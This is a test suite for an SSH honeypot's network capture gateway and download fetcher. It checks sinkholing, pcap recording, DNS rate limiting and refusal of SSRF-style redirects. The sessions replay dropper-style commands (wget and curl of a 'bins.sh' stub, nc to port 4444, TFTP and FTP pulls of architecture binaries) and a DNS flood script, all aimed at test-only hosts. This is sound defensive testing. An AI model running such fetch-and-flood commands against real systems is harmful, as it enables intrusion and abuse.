"""``network.mode: capture``: a box's eth0 reaches only sandtrap's capture gateway, which answers as the internet.

Network rules of these tests: the box's packets all end in the gateway namespace the honeypot creates (test
namespaces are named and removed here); DNS answers fall in 198.18.0.0/15; the fetcher's "internet" is an HTTP
server on 127.0.0.1, reached through ``network.egress.hosts`` and ``network.egress.allow: [127.0.0.1/32]``.
Isolation is proven by inspecting the namespace's links, routes and rules, never by sending a packet out.
"""

from __future__ import annotations

import asyncio
import hashlib
import ipaddress
import secrets
import shutil
import ssl
import subprocess
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from aiohttp import web
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from sandtrap.config import EgressSettings
from sandtrap.events import (
    LIMIT_HIT,
    NETWORK_DNS,
    NETWORK_DNS_SUMMARY,
    NETWORK_HTTP,
    NETWORK_PCAP,
    NETWORK_TCP,
    SESSION_CLOSED,
    SESSION_FILE_DOWNLOAD,
    SESSION_FILE_DOWNLOAD_FAILED,
)
from sandtrap.network.fetcher import Failed, Fetcher, Refused
from sandtrap.network.gateway import Gateway

from sshclient import asyncssh_connected as connect

PAYLOAD = b"#!/bin/sh\necho pwned\n" + secrets.token_bytes(200_000)
BIG = secrets.token_bytes(20 * 1024 * 1024)
NAME = "dl.sandtrap-test.com"
SUBNET = "10.20.9.0/24"
ANSWERS = ipaddress.IPv4Network("198.18.0.0/15")


@dataclass
class Internet:
    """The test's own "internet": an HTTP server on 127.0.0.1, and a listener that must never be reached."""

    port: int = 0
    requests: list[str] = field(default_factory=list)
    forbidden_port: int = 0
    forbidden_hits: int = 0


@pytest.fixture
async def internet() -> AsyncIterator[Internet]:
    net = Internet()

    async def forbidden(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        net.forbidden_hits += 1
        writer.close()

    trap = await asyncio.start_server(forbidden, "127.0.0.2", 0)
    net.forbidden_port = trap.sockets[0].getsockname()[1]

    async def handle(request: web.Request) -> web.StreamResponse:
        net.requests.append(request.path)
        if request.path == "/bins.sh":
            return web.Response(body=PAYLOAD, content_type="application/x-sh")
        if request.path == "/20m":
            return web.Response(body=BIG, content_type="application/octet-stream")
        if request.path == "/moved":
            raise web.HTTPFound("/bins.sh")
        if request.path == "/loop":
            raise web.HTTPFound("/loop")
        if request.path == "/to-loopback":
            raise web.HTTPFound(f"http://127.0.0.2:{net.forbidden_port}/x")
        if request.path == "/to-private":
            raise web.HTTPFound("http://10.1.2.3/x")
        if request.path in ("/huge", "/drip"):
            resp = web.StreamResponse()
            await resp.prepare(request)
            chunk = b"A" * 65536 if request.path == "/huge" else b"A"
            try:
                for _ in range(10**6):
                    await resp.write(chunk)
                    if request.path == "/drip":
                        await asyncio.sleep(0.2)
            except (ConnectionError, RuntimeError):
                pass
            return resp
        raise web.HTTPNotFound()

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handle)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    net.port = runner.addresses[0][1]
    try:
        yield net
    finally:
        await runner.cleanup()
        trap.close()


def capture_config(port: int, fetch: bool = True, pcap: bool = True, **dns: Any) -> dict[str, Any]:
    return {
        "pcap": {"enabled": pcap, "max_bytes": "64m"},
        "mode": "capture",
        "subnet": SUBNET,
        "namespace": f"sandtrap-t-{secrets.token_hex(4)}",
        "egress": {
            "fetch": fetch,
            "allow": ["127.0.0.1/32"],
            "hosts": {NAME: "127.0.0.1"},
            "max_file_bytes": "24m",
            "timeout_s": 3,
            "max_redirects": 3,
        },
        "dns": {"answer_subnet": str(ANSWERS), **dns},
    }


@pytest.fixture
async def captured(honeypot: Any) -> AsyncIterator[Any]:
    made: list[Gateway] = []

    async def start(network: dict[str, Any]) -> Any:
        hp = await honeypot(network=network, sandbox={"pool_size": 1})
        made.append(gateway_of(hp))
        return hp

    try:
        yield start
    finally:
        for gw in made:
            await gw.ns.delete()


def gateway_of(hp: Any) -> Gateway:
    gw = hp.services.ctx.hub.network
    assert isinstance(gw, Gateway)
    return gw


async def shell(hp: Any, command: str, timeout_s: float = 60) -> tuple[str, str]:
    """Run ``command`` in a session; its output and the session id (after the session closed)."""
    async with connect(hp) as conn:
        result = await asyncio.wait_for(conn.run(command), timeout_s)
    closed = await hp.wait_for(SESSION_CLOSED, timeout_s=30)
    await hp.wait_for(NETWORK_PCAP, timeout_s=30, session=closed[-1].session)
    return str(result.stdout) + str(result.stderr), closed[-1].session


async def test_wget_and_curl_get_the_payload_through_the_fetcher(captured: Any, internet: Internet) -> None:
    hp = await captured(capture_config(internet.port))
    url = f"http://{NAME}:{internet.port}/bins.sh"
    out, session = await shell(
        hp,
        f"wget -q -O /tmp/w.sh {url}; sha256sum /tmp/w.sh; curl -s -o /tmp/c.sh {url}; sha256sum /tmp/c.sh; "
        f"getent hosts {NAME}; getent hosts {NAME}; ip -o -4 addr show dev eth0; ip route",
    )
    digest = hashlib.sha256(PAYLOAD).hexdigest()
    assert out.count(digest) == 2, out
    # The name resolved in 198.18.0.0/15, the same address both times (one box's life).
    answers = [line.split()[0] for line in out.splitlines() if line.endswith(NAME)]
    assert len(answers) == 2 and answers[0] == answers[1] and ipaddress.ip_address(answers[0]) in ANSWERS, out
    assert f"default via {ipaddress.IPv4Network(SUBNET)[1]} dev eth0" in out
    downloads = hp.events(SESSION_FILE_DOWNLOAD, session=session)
    assert len(downloads) == 2 and all(e.get("shasum") == digest for e in downloads)
    assert downloads[0].get("url") == url and downloads[0].get("stored") is True
    stored = hp.settings.data_dir / str(downloads[0].get("outfile"))
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == digest
    assert internet.requests.count("/bins.sh") == 2
    assert any(e.get("query") == NAME for e in hp.events(NETWORK_DNS, session=session))
    assert [e.get("user_agent", "")[:4] for e in hp.events(NETWORK_HTTP, session=session)] == ["Wget", "curl"]
    # The session's pcap: read by tshark, the GET in it.
    [pcap] = hp.events(NETWORK_PCAP, session=session)
    path = hp.settings.data_dir / str(pcap.get("pcap"))
    assert path.stat().st_size == pcap.get("size") and int(pcap.get("packets") or 0) > 10
    tshark = shutil.which("tshark")
    if tshark is None:
        pytest.skip("tshark is not installed (scripts/setup.sh test)")
    argv = [tshark, "-r", str(path), "-Y", "http.request", "-T", "fields", "-e", "http.request.uri", "-e", "http.host"]
    read = await asyncio.to_thread(subprocess.run, argv, capture_output=True, text=True, check=True)
    assert read.stdout.count("/bins.sh") == 2 and NAME in read.stdout, read.stdout
    # The download is in the session's files (the database, as the API and the session page show it).
    assert await asyncio.to_thread(hp.services.database.flush)
    detail = await asyncio.to_thread(hp.services.repository.get_session, session)
    assert detail is not None
    downloaded = [(a.via, a.sha256, a.path) for a in detail.artifacts if a.via == "download"]
    # The path: the file the box's client wrote (destfile, from the command line), as Cowrie's.
    assert downloaded == [("download", digest, "/tmp/w.sh"), ("download", digest, "/tmp/c.sh")]
    # The API lists the capture and hands it out; the session page links it and lists the downloads.
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{hp.services.api.port}", timeout=30) as api:
        view = (await api.get(f"/api/v1/sessions/{session}")).json()
        assert view["pcap_bytes"] == path.stat().st_size
        assert sum(a["via"] == "download" and a["sha256"] == digest for a in view["artifacts"]) == 2
        got = await api.get(f"/api/v1/sessions/{session}/pcap")
        assert got.status_code == 200 and got.content == path.read_bytes()
        assert (await api.get("/api/v1/sessions/000000000000/pcap")).status_code == 404
        page = (await api.get(f"/sessions/{session}")).text
        assert "Network capture" in page and f"/api/v1/sessions/{session}/pcap" in page and digest in page


@pytest.mark.parametrize("pcap", [True, False], ids=["pcap", "no-pcap"])
async def test_a_20mb_download_through_the_gateway(captured: Any, internet: Internet, pcap: bool) -> None:
    """A box's wget of 20 MB through the fetcher arrives whole, pcap on or off. Its wall time and the honeypot
    process's CPU per MB are printed (-s); the figures belong to `make bench` (bench/capture.py)."""
    hp = await captured(capture_config(internet.port, pcap=pcap))
    url = f"http://{NAME}:{internet.port}/20m"
    async with connect(hp) as conn:
        await conn.run("true")  # the session's box is leased, its capture open
        cpu, wall = time.process_time(), time.perf_counter()
        result = await asyncio.wait_for(conn.run(f"wget -q -O /tmp/big {url} && sha256sum /tmp/big"), 120)
        wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    assert hashlib.sha256(BIG).hexdigest() in str(result.stdout)
    mb = len(BIG) / 1e6
    print(
        f"\n20 MB through the gateway (pcap {'on' if pcap else 'off'}): {mb / wall:.1f} MB/s, "
        f"{cpu / mb * 1000:.1f} ms CPU per MB (honeypot process), wall {wall:.2f} s"
    )


async def test_sinkhole_answers_404_and_records_the_url(captured: Any, internet: Internet) -> None:
    hp = await captured(capture_config(internet.port, fetch=False))
    url = f"http://{NAME}:{internet.port}/bins.sh"
    out, session = await shell(
        hp,
        f"wget -S -O /tmp/w.sh {url} 2>&1 | grep -E 'HTTP/|Server:'; printf 'hello' | timeout 2 nc 198.18.7.7 4444; echo rc=$?; "
        "curl -sS -m 5 -o /tmp/t tftp://198.18.5.5/mips.bin; echo tftp=$?; "
        "curl -sS -m 8 -o /tmp/f ftp://198.18.6.6/bins/x86; echo ftp=$?; "
        "curl -sS -m 8 -o /dev/null -w 'https=%{http_code} ' https://secure.sandtrap-test.com/x.sh; echo tls=$?; "
        "wget -q -O /dev/null https://secure.sandtrap-test.com:8443/y; echo wget=$?; "
        'python3 -c "import socket;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM,socket.IPPROTO_ICMP);'
        "s.settimeout(3);s.sendto(bytes([8,0,0,0,0,1,0,1])+b'hi',('198.18.9.9',0));print('echo-reply', s.recv(64)[0])\"",
    )
    assert "404 Not Found" in out and "Server: nginx" in out, out
    failed = hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session)[0]
    assert failed.get("url") == url and "fetch: false" in str(failed.get("error"))
    assert internet.requests == []  # nothing was fetched
    # Other TCP: held open silently, its bytes recorded.
    tcp = [e for e in hp.events(NETWORK_TCP, session=session) if e.get("dst_port") == 4444]
    assert tcp and tcp[0].get("data") == "hello" and tcp[0].get("dst_ip") == "198.18.7.7", out
    # TFTP: recorded, answered "File not found" (curl: exit 68, TFTP_NOTFOUND); an echo to anywhere: answered.
    assert "tftp=68" in out and "echo-reply 0" in out, out
    # HTTPS: the box trusts the sensor's CA (no -k), the gateway answers for the name; recorded as https.
    assert "https=404 tls=0" in out and "wget=8" in out, out  # wget: 8 = the server answered an error
    urls = [e.get("url") for e in hp.events(NETWORK_HTTP, session=session)]
    assert "https://secure.sandtrap-test.com/x.sh" in urls and "https://secure.sandtrap-test.com:8443/y" in urls
    # FTP: a vsftpd without the file (curl: exit 78, remote file not found), the path recorded once.
    assert "ftp=78" in out, out
    ftp = [e for e in hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session) if str(e.get("url")).startswith("ftp")]
    assert [e.get("url") for e in ftp] == ["ftp://198.18.6.6/bins/x86"], out
    tftp = [e for e in hp.events(SESSION_FILE_DOWNLOAD_FAILED, session=session) if str(e.get("url")).startswith("tftp")]
    assert [e.get("url") for e in tftp] == ["tftp://198.18.5.5/mips.bin"]


async def test_the_gateway_is_a_dead_end_by_inspection(captured: Any, internet: Internet) -> None:
    hp = await captured(capture_config(internet.port))
    gw = gateway_of(hp)
    await asyncio.sleep(0.5)
    seen = await gw.ns.inspect()
    links = [line.split(":")[1].strip().split("@")[0] for line in seen["links"].splitlines()]
    assert links[0] == "lo" and links[1:] and all(name.startswith("sg") for name in links[1:]), links
    assert seen["ip_forward"].strip() == "0"
    assert "-P FORWARD DROP" in seen["filter"].splitlines()
    # No route anywhere but the boxes' own /32s and local delivery: no default route out of the namespace.
    for line in seen["routes"].splitlines():
        assert line.startswith(("local ", "broadcast ")) or (" dev sg" in line and "/" not in line.split()[0]), line
    assert "MASQUERADE" not in seen["nat"] and "SNAT" not in seen["nat"] and "DNAT" not in seen["nat"]
    # The box's view: a LAN server's (realism battery: an interface besides lo, a default route, an address).
    async with connect(hp) as conn:
        result = await conn.run("ip -o link | awk -F': ' '{print $2}'; ip route show default; hostname -I")
    out = str(result.stdout)
    assert "eth0" in out and "default via" in out and out.strip().splitlines()[-1].startswith("10.20.9."), out


async def test_dns_flood_is_recorded_and_rate_limited(captured: Any, internet: Internet) -> None:
    hp = await captured(capture_config(internet.port, queries_per_s=5, burst=10, max_logged=20))
    flood = (
        'python3 -c "import socket,struct\n'
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "for i in range(300):\n"
        " q=struct.pack('>HHHHHH',i,0x100,1,0,0,0)+bytes([len('x%d'%i)])+b'x%d'%i+b'\\x07example\\x03com\\x00'+struct.pack('>HH',1,1)\n"
        " s.sendto(q,('10.20.0.2',53))\n\""
    )
    _, session = await shell(hp, flood)
    # The burst (10) and the rate (5/s over the flood's moment) answered and recorded; the rest dropped, counted.
    assert 10 <= len(hp.events(NETWORK_DNS, session=session)) <= 20
    assert any(e.get("limit") == "network.dns.queries_per_s" for e in hp.events(LIMIT_HIT, session=session))
    assert gateway_of(hp).dns_dropped >= 200  # of 300 sent at once
    [summary] = hp.events(NETWORK_DNS_SUMMARY, session=session)  # every query, past max_logged too
    queries, dropped = int(summary.get("queries") or 0), int(summary.get("dropped") or 0)
    assert 200 <= dropped < queries <= 300, summary  # datagrams the kernel dropped under load never arrived
    assert summary.get("names") == queries - dropped, summary  # the answered ones, each distinct
    assert len("x0.example.com") <= int(summary.get("longest") or 0) <= len("x299.example.com"), summary


# -- a hostile server, against the fetcher itself (its "internet": the test's servers on loopback) -------------


def fetcher(**egress: Any) -> Fetcher:
    settings = {"allow": ["127.0.0.1/32"], "hosts": {NAME: "127.0.0.1"}, "timeout_s": 3, "max_redirects": 3}
    return Fetcher(EgressSettings(**{**settings, **egress}))


async def test_a_redirect_to_loopback_or_a_private_range_is_refused_before_any_connection(internet: Internet) -> None:
    f = fetcher()
    for path in ("/to-loopback", "/to-private"):
        with pytest.raises(Refused, match="not an allowed destination"):
            await f.fetch("GET", f"http://{NAME}:{internet.port}{path}", {}, 1 << 20)
    assert internet.forbidden_hits == 0  # 127.0.0.2 was never connected to
    # And directly: the policy answers from the address alone.
    with pytest.raises(Refused):
        await f.fetch("GET", f"http://127.0.0.2:{internet.forbidden_port}/", {}, 1 << 20)
    with pytest.raises(Refused):
        await f.fetch("GET", "http://10.1.2.3/x", {}, 1 << 20)
    with pytest.raises(Refused):
        await f.fetch("POST", f"http://{NAME}:{internet.port}/bins.sh", {}, 1 << 20)
    assert internet.forbidden_hits == 0
    # Without the test's allow range, the test server itself is refused (loopback): nothing connects.
    before = list(internet.requests)
    with pytest.raises(Refused):
        await fetcher(allow=[]).fetch("GET", f"http://{NAME}:{internet.port}/bins.sh", {}, 1 << 20)
    assert internet.requests == before


async def test_a_hostile_server_is_bounded(internet: Internet) -> None:
    f = fetcher()
    base = f"http://{NAME}:{internet.port}"
    got = await f.fetch("GET", f"{base}/moved", {"User-Agent": "Wget/1.21"}, 1 << 20)
    assert got.body == PAYLOAD and got.redirects == [f"{base}/bins.sh"]
    with pytest.raises(Failed, match="larger than"):
        await f.fetch("GET", f"{base}/huge", {}, 4 << 20)  # an endless body: cut at the cap
    with pytest.raises(Failed, match="timed out"):
        await f.fetch("GET", f"{base}/drip", {}, 4 << 20)  # a byte every 0.2 s: cut at timeout_s
    with pytest.raises(Failed, match="redirects"):
        await f.fetch("GET", f"{base}/loop", {}, 1 << 20)


async def test_a_tls_server_with_a_bad_certificate_fails(tmp_path: Path) -> None:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, NAME)])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.DNSName(NAME)]), critical=False)
        .sign(key, hashes.SHA256())
    )
    (tmp_path / "c.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "k.pem").write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(tmp_path / "c.pem", tmp_path / "k.pem")
    app = web.Application()
    app.router.add_get("/x", lambda _: web.Response(body=b"secret"))
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0, ssl_context=ctx)
    await site.start()
    try:
        port = runner.addresses[0][1]
        with pytest.raises(Failed, match=r"(?i)certificate"):
            await fetcher().fetch("GET", f"https://{NAME}:{port}/x", {}, 1 << 20)
    finally:
        await runner.cleanup()


async def test_a_second_sandtrap_of_the_same_sensor_refuses_the_live_gateway_and_leaves_it_alone(
    honeypot: Any, tmp_path: Path
) -> None:
    """The gateway's namespace is one per sensor: a second sandtrap with the same sensor name says so (naming the
    fix), and its failed start neither takes over nor removes the first one's namespace."""
    from sandtrap.network.namespace import NetworkError

    hp = await honeypot()
    gateway = hp.services.ctx.hub.network
    assert gateway is not None and gateway.ns.exists()
    with pytest.raises(NetworkError, match=r"another running sandtrap.*network\.namespace"):
        await honeypot(storage={"data_dir": str(tmp_path / "data-2")})
    assert gateway.ns.exists()
    async with connect(hp) as conn:
        result = await conn.run("getent hosts example.com", check=False)
    assert result.exit_status == 0 and str(result.stdout).strip(), result
